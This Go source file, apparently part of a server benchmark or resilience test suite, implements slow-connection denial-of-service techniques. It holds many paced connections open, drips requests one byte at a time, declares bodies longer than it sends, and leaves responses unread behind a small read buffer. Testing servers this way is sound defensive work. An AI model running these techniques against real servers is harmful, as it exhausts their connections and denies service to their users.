package hostile

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/url"
	"sync"
	"time"
)

// text returns a request as it is sent. Its body may be shorter than its headers say.
func text(method, path, authorization, headers, body string) string {
	if authorization != "" {
		headers += "Authorization: " + authorization + "\r\n"
	}
	return method + " " + path + " HTTP/1.1\r\nHost: bench\r\n" + headers + "\r\n" + body
}

func contentLength(n int) string {
	return fmt.Sprintf("Content-Length: %d\r\nContent-Type: application/json\r\n", n)
}

// dial opens a connection to one of the servers, which is closed when ctx ends. Its small window keeps unread bytes with the
// server.
func (a *attacker) dial(ctx context.Context) (net.Conn, error) {
	u, err := url.Parse(a.server())
	if err != nil {
		return nil, err
	}
	conn, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, "tcp", u.Host)
	if err != nil {
		return nil, err
	}
	if tcp, ok := conn.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4096) // without it the attack is only weaker
	}
	context.AfterFunc(ctx, func() { conn.Close() })
	return conn, nil
}

// hold keeps n connections open, opening at most perSecond a second. It calls use for each connection, and replaces the
// connection when use returns.
func (a *attacker) hold(ctx context.Context, n int, perSecond float64, use func(context.Context, net.Conn)) {
	pace := &pace{each: time.Duration(float64(time.Second) / perSecond)}
	var group sync.WaitGroup
	for range n {
		group.Go(func() {
			for {
				_, due := pace.take()
				if !sleep(ctx, time.Until(due)) {
					return
				}
				a.holdOne(ctx, use)
			}
		})
	}
	group.Wait()
}

func (a *attacker) holdOne(ctx context.Context, use func(context.Context, net.Conn)) {
	ctx, cancel := context.WithCancel(ctx)
	defer cancel() // closes the connection
	conn, err := a.dial(ctx)
	if err != nil {
		if ctx.Err() == nil {
			a.count("no connection")
		}
		return
	}
	a.count("connected")
	use(ctx, conn)
}

// drip sends text, and then a byte at each interval, until the server closes the connection.
func drip(text string, each time.Duration) func(context.Context, net.Conn) {
	return func(ctx context.Context, conn net.Conn) {
		_, err := io.WriteString(conn, text)
		for err == nil && sleep(ctx, each) {
			_, err = io.WriteString(conn, "x")
		}
	}
}

// sendAndWait sends a request and waits until the server answers or closes the connection.
func sendAndWait(text string) func(context.Context, net.Conn) {
	return func(_ context.Context, conn net.Conn) {
		if _, err := io.WriteString(conn, text); err == nil {
			_, _ = conn.Read(make([]byte, 1)) // returns when ctx ends, which closes the connection
		}
	}
}

// unread sends a request and does not read the answer.
func unread(text string) func(context.Context, net.Conn) {
	return func(ctx context.Context, conn net.Conn) {
		if _, err := io.WriteString(conn, text); err == nil {
			<-ctx.Done()
		}
	}
}
